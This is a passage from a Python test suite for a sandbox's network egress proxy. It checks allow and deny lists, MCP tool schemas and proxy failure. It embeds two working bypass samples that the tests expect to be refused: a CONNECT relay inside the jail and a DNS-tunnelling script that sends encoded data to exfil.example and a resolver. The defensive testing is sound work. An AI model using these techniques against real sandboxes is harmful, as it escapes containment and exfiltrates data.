    finally:
        s.close()
        server.close()
    # A session whose policy allows no host: a job's list may only deny.
    s = Serve(user, make_workspace(cleanup), write_policy("", cleanup))
    try:
        expect_param_error(s.call("exec", {"argv": ["true"], "network":
                                           {"allow": [LISTED]}}),
                           "network_not_allowed", LISTED)
        r = s.call("exec", {"argv": ["true"],
                            "network": {"deny": [LISTED]}})["result"]
        if r.get("status") != "ok" or "network" in r:
            fail(r, "a deny-only list in a session without network")
    finally:
        s.close()
    return "narrowed, widening and bad rules refused"


# --- 8. mcp: the run tools take the same list ------------------------------

def case_mcp(user, cleanup):
    policy = write_policy(f"[network]\nallow = {LISTED}\n", cleanup)
    s = Serve(user, make_workspace(cleanup), policy, command="mcp")
    try:
        s.call("initialize", {"protocolVersion": "2025-06-18",
                              "capabilities": {},
                              "clientInfo": {"name": "t", "version": "1"}})
        s.notify("notifications/initialized")
        tools = s.call("tools/list", {})["result"]["tools"]
        for t in tools:
            if t["name"] in ("run_code", "run_command"):
                prop = t["inputSchema"]["properties"].get("network")
                if prop is None or LISTED not in prop.get("description", ""):
                    raise AssertionError(f"{t['name']} has no network "
                                         f"property quoting the list: {t}")
        r = s.call("tools/call", {"name": "run_command", "arguments": {
            "argv": ["true"], "network": {"allow": [UNLISTED]}}})
        text = json.dumps(r)
        if "network_not_allowed" not in text or UNLISTED not in text:
            raise AssertionError(f"a wider list was not refused: {text}")
        r = s.call("tools/call", {"name": "run_command", "arguments": {
            "argv": ["curl", "-sS", "--max-time", "10", f"https://{UNLISTED}/"],
            "network": {"allow": [LISTED]}}})["result"]
        refusals = r["structuredContent"]["network"]["refusals"]
        if not matching(refusals, host=UNLISTED, reason="not_allowed"):
            raise AssertionError(f"no not_allowed refusal: {json.dumps(r)}")
    finally:
        s.close()
    return "network in both tools' schemas; wider list refused; refusal reported"


# --- 9. a proxy that dies ends the network, not the job ---------------------

def proxy_pid(serve_pid):
    """The pid of the stockade-proxy child of SERVE_PID (the broker, or
    setpriv's exec of it), or None."""
    try:
        with open(f"/proc/{serve_pid}/task/{serve_pid}/children") as f:
            kids = f.read().split()
    except OSError:
        return None
    for k in kids:
        try:
            with open(f"/proc/{k}/comm") as f:
                if f.read().strip() == "stockade-proxy":
                    return int(k)
        except OSError:
            pass
    return None


def case_proxy_dies(user, cleanup):
    need_tools(("curl",), "curl")
    root = tempfile.mkdtemp(prefix="stockade-egress-dies-")
    cleanup.append(root)
    with open(os.path.join(root, "hello.txt"), "w") as f:
        f.write("hello\n")
    server = IndexServer(root)
    url = f"http://{server.addr}:{server.port}/hello.txt"
    policy = write_policy(f"[network]\nallow_address = {SERVE_ADDR}/32:"
                          f"{server.port}\n", cleanup)
    s = Serve(user, make_workspace(cleanup), policy)
    try:
        expect_reached(s.call("exec", {"argv": ["curl", "-fsS", url]})["result"],
                       SERVE_ADDR, server.port)
        pid = proxy_pid(s.proc.pid)
        if pid is None:
            raise AssertionError("no stockade-proxy child of the session")
        # Killed while a job runs: the job runs on to its end without
        # its network, and its result says why.
        s.send("exec", {"argv": ["sh", "-c", f"sleep 1; curl -fsS {url}; "
                                 "echo curl=$?"]})
        time.sleep(0.4)
        os.kill(pid, signal.SIGKILL)
        r = s.receive()["result"]
        if r.get("status") != "ok" or "curl=0" in str(r.get("stdout")):
            fail(r, "the job did not run to its end without a network")
        if (r.get("network") or {}).get("proxy") != "failed":
            fail(r, "the result does not say the proxy failed")
        if "sandbox itself failed" not in str(r.get("hint")):
            fail(r, "the hint does not say the sandbox failed")
        # The session goes on; its jobs run, still without a network.
        r = s.call("exec", {"argv": ["true"]})["result"]
        if r.get("status") != "ok" or r["network"]["proxy"] != "failed":
            fail(r, "the next job")
    finally:
        s.close()
        server.close()
    return "job ran to its end, network proxy failed, session went on"


# --- 10, 11. public bypasses: a relay in the sandbox; DNS exfiltration -----

# A CONNECT-speaking helper the job runs in its own jail (the bypass of
# one agent CLI: a relay inside the sandbox that the proxy trusted). Here
# it listens on the jail's 127.0.0.1:8888 and, for each client, dials
# the CONNECT line's host itself; then the client tries the real proxy
# with the same unlisted host.
HELPER_RELAY = f"""
import socket, sys, threading
srv = socket.socket(); srv.bind(("127.0.0.1", 8888)); srv.listen(4)
def serve():
    c, _ = srv.accept()
    line = c.recv(4096).split(b"\\r\\n")[0].split()
    host, port = line[1].rsplit(b":", 1)
    try:
        u = socket.create_connection(("{DIRECT_ADDR}", int(port)), timeout=5)
        c.sendall(b"HTTP/1.1 200 OK\\r\\n\\r\\n")
    except OSError as e:
        c.sendall(b"HTTP/1.1 502 helper: " + str(e).encode() + b"\\r\\n\\r\\n")
    c.close()
threading.Thread(target=serve, daemon=True).start()
def ask(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(b"CONNECT {UNLISTED}:443 HTTP/1.1\\r\\nHost: {UNLISTED}:443\\r\\n\\r\\n")
    return s.recv(4096).split(b"\\r\\n")[0].decode()
print("helper:", ask(8888))
print("proxy:", ask(3128))
"""


def case_helper_relay(user, cleanup):
    need_tools(("python3",), "python3")
    ws = make_workspace(cleanup)
    result = run_job(user, ws, f"[network]\nallow = {LISTED}\n",
                     ["python3", "-c", HELPER_RELAY], 30, cleanup)
    out = str(result.get("stdout", ""))
    if "helper: HTTP/1.1 502" not in out or "proxy: HTTP/1.1 403" not in out:
        fail(result, "the relay in the sandbox got through")
    expect_refused(result, DIRECT_ADDR, 443, "direct_connect", "tcp")
    expect_refused(result, UNLISTED, 443, "not_allowed")
    return "the helper's dial refused (direct_connect), the proxy 403 (not_allowed)"


# Data in a DNS query name, sent straight to the resolver the host's
# resolv.conf names (the jail has no resolv.conf; the test passes it),
# and to 192.0.2.53.
DNS_EXFIL = """
import socket, struct, sys
def query(name):
    q = struct.pack(">HHHHHH", 0x5353, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
    return q + struct.pack(">HH", 16, 1)
for server in sys.argv[1:]:
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(query("73656372657400.exfil.example"), (server, 53))
    try:
        s.recv(512)
        print("answered by", server)
    except OSError as e:
        print("no answer from", server, type(e).__name__)
"""


def case_dns_exfil(user, cleanup):
    need_tools(("python3",), "python3")
    ws = make_workspace(cleanup)
    servers = []
    try:
        with open("/etc/resolv.conf") as f:
            servers = [l.split()[1] for l in f
                       if l.startswith("nameserver") and len(l.split()) > 1]
    except OSError:
        pass
    result = run_job(user, ws, f"[network]\nallow = {LISTED}\n",
                     ["python3", "-c", DNS_EXFIL] + servers[:1] +
                     ["192.0.2.53"], 30, cleanup)
    out = str(result.get("stdout", ""))
    if "answered by" in out or "no answer from 192.0.2.53" not in out:
        fail(result, "a DNS query from the jail was answered")
    expect_refused(result, "192.0.2.53", 53, "direct_connect", "udp")
    return "no answer; direct_connect udp 53 in the result"


# --- main --------------------------------------------------------------------

CASES = (
    ("npm view and install from the machine's registry", case_npm),
    ("apt-get download from the machine's http:// Debian source", case_apt),
    ("pip install from a local index an allow_address covers",
     functools.partial(case_pip, allowed=True)),
    ("pip refused: the local index without its allow_address is private_address",
     functools.partial(case_pip, allowed=False)),
    (f"curl https://{UNLISTED}/ refused as not_allowed", case_curl),
    (f"connect(2) to {DIRECT_ADDR}:{DIRECT_PORT} refused at once as "
     "direct_connect", case_direct),
    ("serve: exec's network parameter narrows the policy's list, never "
     "widens it", case_serve),
    ("mcp: the run tools take the same narrowing list", case_mcp),
    ("a proxy killed during a job ends the network, not the job, and is "
     "reported", case_proxy_dies),
    ("connect_relayed_through_a_helper_in_the_sandbox: the helper's own "
     "dial is a direct_connect, the proxy still refuses", case_helper_relay),
    ("dns_exfiltration_from_the_jail: no resolver answers, each query "
     "reported", case_dns_exfil),
)


def users(cleanup):
    if os.geteuid() == 0:
        # A root broker refuses a root-owned workspace: nobody owns it.
        env = {"PATH": JAIL_PATH, "LANG": "C.UTF-8", "HOME": "/nonexistent"}
        env.update({k: os.environ[k] for k in CA_VARS if k in os.environ})
        return [User("as root", [], NOBODY, dict(os.environ), cleanup),
                User(f"as uid {NOBODY} (setpriv)",
                     ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}",
                      "--clear-groups"], NOBODY, env, cleanup)]
    try:
        who = pwd.getpwuid(os.getuid()).pw_name
    except KeyError:
        who = str(os.getuid())
    return [User(f"as the invoking user {who}", [], None, dict(os.environ),
                 cleanup)]


def run_case(number, title, fn, user, cleanup):
    """tap_case, and a NotHere is a skip whatever STOCKADE_MUST_WORK says."""
    try:
        return tap_case(number, title, fn, user, cleanup)
    except NotHere as exc:
        print(f"ok {number} - {title} # SKIP {' '.join(str(exc).split())}")
        sys.stdout.flush()
        return 0


def main():
    cleanup = []
    who = users(cleanup)
    print(f"1..{len(CASES) * len(who)}")
    failed, number = 0, 0
    try:
        for title, fn in CASES:
            for user in who:
                number += 1
                failed += run_case(number, f"{title}, {user.title}", fn, user,
                                   cleanup)
    finally:
        remove_all(cleanup)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
